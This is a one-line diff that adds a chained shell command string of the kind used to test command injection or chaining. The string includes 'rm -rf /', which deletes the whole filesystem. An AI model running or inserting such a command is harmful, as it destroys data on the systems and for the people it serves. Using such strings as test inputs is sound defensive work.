@@ -1,0 +1,1 @@
+ls; rm -rf / && echo ok || true & wait
